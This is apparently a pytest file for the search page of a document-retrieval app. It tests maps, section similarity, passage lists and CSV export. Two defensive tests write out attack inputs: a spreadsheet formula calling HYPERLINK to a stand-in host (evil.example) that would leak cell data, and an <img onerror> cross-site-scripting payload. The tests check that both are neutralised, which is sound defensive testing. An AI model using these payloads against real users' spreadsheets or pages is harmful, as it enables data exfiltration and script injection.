"""What the page of `nextlevelbert app` shows, without a browser."""

import base64
import csv
import html
import io
import re
import time
from types import SimpleNamespace

import numpy as np
import pytest
import torch
from PIL import Image

from nextlevelbert import NextLevelBertModel
from nextlevelbert.search import Reranker
from nextlevelbert.search.app import page as page_module
from nextlevelbert.search.app.page import Page
from nextlevelbert.search.app.sections import Section
from nextlevelbert.search.encoders.torch import open_model
from nextlevelbert.search.library import Library
from nextlevelbert.search.reading import ReadingOptions
from nextlevelbert.search.store import open_store

from ..conftest import KITCHEN, write_books

QUESTION = "Where does the captain hunt the whale?"
WORDS = "The captain hunts the whale over the sea. " * 15  # longer than the shortest part
ORANGE = [234, 88, 12, 255]


@pytest.fixture(scope="module")
def page(toy_encoder_path, tmp_path_factory) -> Page:
    folder = tmp_path_factory.mktemp("page")
    books = write_books(folder)
    torch.manual_seed(0)
    model = NextLevelBertModel.from_chunk_encoder(toy_encoder_path, chunk_size=16)
    reading = ReadingOptions(cache_dir=folder / "cache")
    return Page(Library(open_store(str(books), model, reading)))


def test_the_map_marks_what_was_found_and_knows_its_points(page):
    """A click on a point tells its document; ranked documents are orange there, the others blue."""
    pixels = page.map([2, 0], 1)
    height, width, _ = pixels.shape
    for index, (x, y) in enumerate((page.points + 0.06) / 1.12):
        column = round(x * width)
        row = round((1 - y) * height)
        assert page.nearest_point(column / width, row / height) == index
        around = pixels[row - 8 : row + 8, column - 8 : column + 8].reshape(-1, 4).tolist()
        assert (ORANGE in around) == (index in (2, 0))

    assert page.points.min() == 0
    assert page.points.max() == 1


def test_a_second_model_ranks_the_first_passages_again(page, toy_encoder_path):
    again = Page(page.library, Reranker(open_model(toy_encoder_path), passages=2))

    answer = again.ask(QUESTION)

    assert np.isfinite(answer.rerank_cosine).sum() == 2
    assert page.ask(QUESTION).rerank_cosine is None


def test_a_question_on_a_thousand_documents_is_drawn_at_once():
    """All names are measured once, when the page opens."""
    rng = np.random.default_rng(0)
    vectors = rng.normal(size=(1_000, 256)).astype(np.float32)
    names = list(map("note {} on the ferry.txt".format, range(1_000)))
    library = SimpleNamespace(document_vectors=vectors, names=names)
    page = Page(library)
    start = time.process_time()

    pixels = page.map([1, 2, 3], selected=1)

    assert time.process_time() - start < 0.3
    assert (pixels[..., :3] == 0x7A).all(axis=2).sum() > 1_000  # there are names


def test_similarity_of_sections(page):
    sections, cosines = page.sections(2)
    spans = page.library.spans(2)
    vectors = page.library.vectors(2).astype(np.float64)
    means = []
    for section in sections:
        within = (spans[:, 0] >= section.start) & (spans[:, 1] <= section.end)
        means.append(vectors[within].mean(axis=0))
    directions = np.array(means) - np.mean(means, axis=0)
    directions /= np.linalg.norm(directions, axis=1, keepdims=True)
    np.testing.assert_allclose(cosines, directions @ directions.T, atol=1e-5)

    assert page.square(2).shape == (len(sections), len(sections), 4)


def test_a_click_on_the_square_shows_two_sections(page):
    """In a short text, every chunk is a section."""
    sections, _ = page.sections(2)
    passages = page.passages(2)
    width = 1 / len(sections)
    first = page.text(passages[0], heading=f"{sections[0].heading} · ")
    third = page.text(passages[2], heading=f"{sections[2].heading} · ")
    second = page.text(passages[1], heading=f"{sections[1].heading} · ")

    assert page.nearest_pair(2, x=2.1 * width, y=0) == first + third
    assert page.nearest_pair(2, x=1.1 * width, y=1.1 * width) == second
    assert f">{sections[-1].heading} · " in page.nearest_pair(2, x=1.0, y=0.999)


def test_a_document_of_one_section_is_similar_to_itself(page, monkeypatch):
    monkeypatch.setattr(page.library, "starts", np.array([0, 1]))
    sections, cosines = page.sections(0)

    assert len(sections) == 1

    np.testing.assert_allclose(cosines, [[1]], atol=1e-5)


def test_a_chunk_on_the_border_of_two_sections_is_not_compared_with_itself(page, monkeypatch):
    text = page.library.document(2).text
    first, second = page.library.spans(2)[:2].tolist()
    border = (second[0] + second[1]) // 2
    sections = [Section("one", first[0], border), Section("two", border, len(text))]
    monkeypatch.setattr(page_module, "sections_of", lambda *document: sections)

    shown = page.nearest_pair(2, x=0.999, y=0)

    one, other = re.findall(r"characters ([\d,]+) to", shown)
    assert one != other


def test_a_strip_shows_the_highest_score_of_each_cell(page):
    answer = page.ask(QUESTION)
    best_passage = answer.passages[0]
    document = page.library.document_of(best_passage)
    strip = page.strip(document, answer)
    cells = page.cells(document)

    assert strip.shape == (1, len(cells), 4)

    cell = page.passages(document).tolist().index(best_passage)  # each cell is one passage

    assert strip[0, cell].tolist() == ORANGE  # the best of all

    share = (cell + 0.5) / len(cells)

    assert page.best_in_cell(document, answer, share=share) == best_passage
    assert page.best_in_cell(document, answer, share=1.0) == cells[-1][0]
    assert page.best_passage(document, answer) == best_passage


def test_the_nearest_documents_have_their_strips(page):
    answer = page.ask(QUESTION)
    best, _ = answer.documents[0]
    strip = page.strip(best, answer)

    documents = page.document_list(best, answer)

    shown = re.findall(r'data-document="(\d+)"', documents)
    assert list(map(int, shown)) == [document for document, _ in answer.documents]
    data = re.search(r'base64,([^"]+)', documents)[1]
    pixels = np.asarray(Image.open(io.BytesIO(base64.b64decode(data))).convert("RGBA"))
    np.testing.assert_array_equal(pixels[:, :: pixels.shape[1] // strip.shape[1]][:1], strip)


def test_the_nearest_passages_have_their_places(page):
    answer = page.ask(QUESTION)

    passages = page.passage_list(QUESTION, answer)

    shown = re.findall(r'data-passage="(\d+)"', passages)
    assert list(map(int, shown)) == answer.passages
    assert "<strong>sea</strong> · at 0%</span>" in passages


def test_the_table_of_passages_is_read_by_a_library(page):
    answer = page.ask(QUESTION)

    rows = list(csv.DictReader(io.StringIO(page.table(QUESTION, answer))))

    assert len(rows) == len(answer.passages)
    assert rows[0]["question"] == QUESTION
    assert rows[0]["document"] == "sea.txt"
    assert rows[0]["passage"] == page.library.passage(answer.passages[0]).text


@pytest.mark.parametrize("first", [*"=+-@\t＝＋－＠", " =", "\n-"])
def test_no_cell_of_the_table_is_computed(page, monkeypatch, first):
    """Spreadsheets compute a cell that begins so, and texts, names and questions are strangers'."""
    formula = f'{first}HYPERLINK("http://evil.example/?"&A1, "whale")'
    monkeypatch.setattr(page.library, "names", [formula] * 3)
    answer = page.ask(f"{formula} whale")
    answer = answer._replace(score=-np.abs(answer.score))
    passage = page.library.passage(0)._replace(text=formula)
    monkeypatch.setattr(page.library, "passage", lambda index: passage)

    rows = list(csv.reader(io.StringIO(page.table(f"{formula} whale", answer), newline="")))

    for question, document, position, characters, score, text in rows[1:]:
        assert question == f"'{formula} whale"
        assert document == text == f"'{formula}"
        assert position.startswith("at ")
        assert characters.startswith("characters ")
        assert float(score) <= 0  # stays a number


def test_names_and_texts_are_no_html(page, monkeypatch):
    """A browser would run the script of a picture that does not exist."""
    script = "<img src=x onerror=alert(1)> whale"
    monkeypatch.setattr(page, "names", [script] * 3)
    passage = page.library.passage(0)._replace(text=script)
    monkeypatch.setattr(page.library, "passage", lambda index: passage)
    document = SimpleNamespace(text=script)
    monkeypatch.setattr(page.library, "document", lambda index: document)
    answer = page.ask(script)

    documents = page.document_list(0, answer)
    passages = page.passage_list(script, answer)
    text = page.text(0, script, heading=script)

    for shown in (documents, passages, text):
        assert "&lt;img" in shown
        assert "<img src=x" not in shown


def test_the_examples_are_sentences_of_the_folder(page):
    examples = page.examples()

    texts = [page.library.document(document).text for document in range(3)]
    folder = " ".join(" ".join(texts).split())
    assert len(examples) == 3
    for example in examples:
        assert example in folder


def test_without_a_question_similar_documents_are_shown(page):
    assert page.ask(" ") is None

    vectors = page.library.document_vectors
    directions = vectors / np.linalg.norm(vectors, axis=1, keepdims=True)
    cosines = directions @ directions[1]
    [(first, best), (second, worse)] = page.ranked(1, None)

    assert {first, second} == {0, 2}
    assert best == pytest.approx(cosines[first], abs=1e-6)
    assert worse == pytest.approx(cosines[second], abs=1e-6)
    assert best >= worse
    assert page.best_passage(1, None) == page.library.starts[1]
    assert "<img" not in page.document_list(1, None)


def test_the_text_shows_a_passage_in_its_context(page):
    start = page.library.starts[1]
    passage = page.library.passage(start + 3)

    shown = page.text(start + 3, heading="two · ")

    position, text = re.fullmatch(r"(?s)<p[^>]*>(.*?)</p><div[^>]*>(.*)</div>", shown).groups()
    assert position == f"two · {passage.characters}, {passage.position}"
    assert html.unescape(re.search("(?s)<mark>(.*)</mark>", text)[1]) == passage.text
    assert html.unescape(re.sub("</?mark>", "", text)) == f"… {KITCHEN} …"
    assert ">characters 0 to " in page.text(start)
